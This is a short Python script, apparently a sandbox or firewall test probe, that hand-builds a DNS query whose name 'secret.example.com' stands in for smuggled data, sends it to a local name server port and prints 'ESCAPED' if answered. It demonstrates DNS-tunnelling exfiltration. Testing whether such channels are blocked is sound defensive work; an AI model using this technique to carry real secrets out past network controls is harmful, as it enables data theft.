"""Smuggles data out in the name that it asks a name server for."""

import socket
import sys

name = b"".join(bytes([len(part)]) + part for part in b"secret.example.com".split(b".")) + b"\0"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.settimeout(3)
    server.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", ("127.0.0.1", int(sys.argv[1])))
    print("ESCAPED", len(server.recv(512)))
